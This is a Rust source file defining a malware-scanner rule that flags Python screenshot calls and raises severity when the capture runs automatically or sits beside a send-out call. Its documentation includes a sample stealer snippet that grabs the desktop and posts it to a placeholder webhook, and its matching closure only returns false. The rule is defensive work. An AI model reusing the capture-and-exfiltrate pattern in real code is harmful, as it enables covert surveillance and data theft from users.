use crate::python::names::Capture;
use crate::rules::declare_rule;

declare_rule! {
    /// Screenshots of the user's desktop, graded by whether the package
    /// also sends data out and whether it runs without being called.
    ///
    /// ## What it finds
    /// Calls that capture the screen — Pillow's `ImageGrab.grab`,
    /// `pyautogui.screenshot` and its backend `pyscreeze`, `mss` (`mss()`,
    /// `.grab`, `.shot`), `pyscreenshot`, `d3dshot`/`dxcam` — under any
    /// alias or in a decoded payload.
    ///
    /// ## Why it matters
    /// Stealers attach a screenshot of the victim's desktop to what they
    /// post to their webhook, and spyware takes them in a loop. But taking
    /// a screenshot is what automation, testing and screen-recording
    /// libraries exist for, so the capability alone is low. The severity
    /// comes from the chain:
    /// - a call that sends data (HTTP clients, `urllib`, sockets, SMTP,
    ///   FTP, bot APIs, `curl`) in the same function, or the captured
    ///   image demonstrably reaching one: high at runtime, critical when
    ///   the capture runs on import, at install or at interpreter start;
    /// - a send elsewhere in the same file: medium at runtime, high when
    ///   the capture runs by itself;
    /// - no send in the file: low at runtime, medium when it runs by
    ///   itself (nobody needs a screenshot to import a library).
    ///
    /// ## Example
    /// ```python
    /// import io, requests
    /// from PIL import ImageGrab
    /// def report():
    ///     buf = io.BytesIO()
    ///     ImageGrab.grab(all_screens=True).save(buf, "PNG")
    ///     requests.post(WEBHOOK, files={"screen.png": buf.getvalue()})
    /// ```
    ///
    /// ## References
    /// MITRE ATT&CK T1113 (Screen Capture), T1041 (Exfiltration Over C2
    /// Channel).
    pub struct ScreenCapture {
        id: "AY701",
        slug: "screen-capture",
        category: Collection,
        severity: Critical,
    }
}

capture_rule!(ScreenCapture, Capture::Screen, "takes a screenshot", |_| {
    false
});
